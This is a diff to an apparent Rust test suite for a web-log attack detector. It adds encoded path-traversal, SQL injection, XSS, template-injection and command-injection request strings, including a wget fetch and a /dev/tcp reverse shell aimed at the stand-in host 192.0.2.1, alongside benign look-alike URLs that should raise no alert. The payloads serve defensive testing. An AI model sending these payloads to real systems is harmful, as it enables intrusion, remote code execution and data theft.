@@ -38,12 +38,75 @@ const TARGETS: &[(&str, &str)] = &[
     ("/uploads/c99.php", BROWSER),
     ("/cgi-bin/status", "() { :;}; /bin/cat /etc/hostname"),
     ("http://example.com/", BROWSER),
+    // Encoded twice, overlong, and with blanks of other kinds.
+    (
+        "/view?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+        BROWSER,
+    ),
+    ("/static/..%c0%af..%c0%afconf", BROWSER),
+    ("/item?id=1%2527%2520or%25201%253D1--", BROWSER),
+    ("/item?id=7/**/union/*!50000select*/null,null", BROWSER),
+    ("/item?id=7%09or%0a7%3d7", BROWSER),
+    ("/item?name=x%27)%20or%20exists(select%201)--", BROWSER),
+    ("/item?name=x'||(select+version())||'", BROWSER),
+    ("/item?name=root%27--%20", BROWSER),
+    ("/item?name=x%27;drop%20table%20orders", BROWSER),
+    (
+        "/item?name=x%22)%20and%20ascii(substr(user,1,1))>64",
+        BROWSER,
+    ),
+    ("/item?id=if(1,2,3)%20or%20benchmark(9000,md5(1))", BROWSER),
+    ("/item?id=9)%20or%20(9=9", BROWSER),
+    (
+        "/item?id=0%20union%20all%20select%20pw%20from%20users",
+        BROWSER,
+    ),
+    ("/search?q=%22%3E%3Cbody%20onpageshow%3Dstart()%3E", BROWSER),
+    ("/search?q=%3Cdetails%20open%20ontoggle%3Dgo%3E", BROWSER),
+    ("/search?q=x%27%20onmouseenter=go()%20x=%27", BROWSER),
+    ("/search?q=%3Cobject%20data=x%3E", BROWSER),
+    ("/search?q=%u003cscript%u003ego()", BROWSER),
+    ("/go?to=javascript:fetch(%27//192.0.2.1%27)", BROWSER),
+    ("/go?to=data:text/html,hello", BROWSER),
+    ("/search?q=%3Ciframe/src=//192.0.2.1%3E", BROWSER),
+    ("/search?q=%5B%5D%5B(!%5B%5D%2B%5B%5D)%5D", BROWSER),
+    ("/hello?name=%2523%257B7*7%257D", BROWSER),
+    ("/hello?name={{''.__class__.__mro__}}", BROWSER),
+    ("/api?a[__proto__][admin]=1", BROWSER),
+    ("/page?t=%3C%3Fphp%20echo%201%3B%3F%3E", BROWSER),
+    (
+        "/page?t=O:4:%22User%22:1:%7Bs:1:%22a%22%3Bi:1%3B%7D",
+        BROWSER,
+    ),
+    ("/ping?host=a%26%26wget%20http://192.0.2.1/x", BROWSER),
+    ("/ping?host=$(cat$IFS/etc/fstab)", BROWSER),
+    ("/ping?host=%7Cid", BROWSER),
+    (
+        "/ping?host=x%20%26%20for%20%25a%20in%20(1)%20do%20ver",
+        BROWSER,
+    ),
+    ("/ping?host=a;bash+-i+>%26+/dev/tcp/192.0.2.1/9", BROWSER),
+];
+
+/// Pieces that one request with tells little of: informational whatever the status.
+const PIECES: &[&str] = &[
+    "/item?id=1+group+by+x+having+1",
+    "/item?id=hex(7)",
+    "/item?id=select+name,id+from+shop",
+    "/item?id=3,null,null",
+    "/item?id=1+order+by+9--",
+    "/search?q=%3Cb%3Ehello",
+    "/search?q=%3Cbr",
+    "/go?to=javascript:x",
 ];
 
 /// Attempts of which the status does not tell whether they worked.
 const SILENT: &[(&str, &str)] = &[
     ("/", "${jndi:ldap://192.0.2.1/a}"),
     ("/", "() { :;}; /bin/id"),
+    ("/", "<script>go()</script>"),
+    ("/", "x' or '1'='1"),
+    ("/", "<?php echo 1"),
 ];
 
 /// What is none.
@@ -63,6 +126,35 @@ const ORDINARY: &[&str] = &[
     "/api/items?filter=price%3E10%26size%3C5",
     "/cart?coupon=50%25off",
     "/wiki/C%2B%2B",
+    // Programs of others that look like scripts, SQL or commands.
+    "/captcha/api.js?onload=ready&render=explicit",
+    "/beacon?href=javascript:void(0)&text=Next",
+    "/beacon?t=Rock+%27n%27+Roll+%7C+%22Live%22+--+at+Tom%27s&u=javascript:;",
+    "/find?jql=project+%3D+%22SHOP%22+AND+status+%3D+%22Open%22+ORDER+BY+rank",
+    "/find?jql=assignee+in+(me())+AND+resolution+%3D+None",
+    "/odata/Items?$filter=Name+eq+%27tea%27+or+Price+gt+5",
+    "/layer/query?where=STATE%3D%27CA%27+AND+POP%3E1000&outFields=*",
+    "/layer/query?where=1%3D1&f=json",
+    "/cloud/query?q=SELECT+Id,Name+FROM+Account+WHERE+Name+%3D+%27Acme%27",
+    "/loki?query=%7Bapp%3D%22shop%22%7D+%7C%3D+%22failed%22+%7C+json",
+    "/prom?query=up%7Bjob%3D%22a%22%7D+and+on(x)+y%7Bz%3D%22b%22%7D+%3D%3D+1",
+    "/search?q=%22black+or+white%22+or+%22red%22",
+    "/search?q=cats%27+and+dogs%27+food",
+    "/search?q=how+to+select+a+union+man+from+the+list",
+    "/search?q=1+or+2+bedrooms",
+    "/search?q=drop+leaf+table",
+    "/search?q=what+is+eval()+in+python",
+    "/fonts?family=Sans:ital,wght@0,400;1,600&display=swap",
+    "/ad/site;sz=300x250;ord=123?",
+    "/api?prop=info|revisions&titles=Cat|Dog|id",
+    "/users?age[$gt]=25&sort[id]=-1",
+    "/graph?query=%7Buser(id:%221%22)%7Bname%7D%7D",
+    "/calc?f=IF(A1%3E9,%22yes%22,%22no%22)",
+    "/img?d=data:image/png;base64,iVBORw0KGgo%3D",
+    "/docs/etc/hosts-file",
+    "/list?q=&id=5&cat=3&set=&type=x&dir=asc",
+    "/contact?msg=I%27d+like+2+or+3%3B+thanks!+--+Bob",
+    "/feedback?t=1+%3C+2+and+3+%3E+2",
 ];
 
 fn has(alerts: &[(String, u64)], rule: &str) -> bool {
@@ -78,7 +170,7 @@ fn one_attempt_is_informational_and_an_answered_one_is_high() {
     }
     let lines = cases.iter().enumerate();
     let lines = lines.map(|(client, (target, agent, status))| {
-        log_line(client, 0, ("GET", target), *status, agent)
+        log_line(client, client, ("GET", target), *status, agent)
     });
     let alerts = alerts_of_log(&lines.collect::<String>());
     for (client, (target, agent, status)) in cases.into_iter().enumerate() {
@@ -91,6 +183,18 @@ fn one_attempt_is_informational_and_an_answered_one_is_high() {
             assert!(has(&alerts, "http-attack-attempt"), "{case}");
             assert!(alerts.iter().all(|(_, severity)| *severity == 0), "{case}");
         }
+    }
+}
+
+#[test]
+fn a_piece_is_informational_even_if_it_is_answered() {
+    let lines = PIECES.iter().enumerate();
+    let lines = lines.map(|(client, target)| log_line(client, 0, ("GET", target), 200, BROWSER));
+    let alerts = alerts_of_log(&lines.collect::<String>());
+    for (client, target) in PIECES.iter().enumerate() {
+        let alerts = alerts.get(&client).cloned().unwrap_or_default();
+        let attempt = ("http-attack-attempt".to_owned(), 0);
+        assert_eq!(alerts, [attempt], "{target}");
     }
 }
 
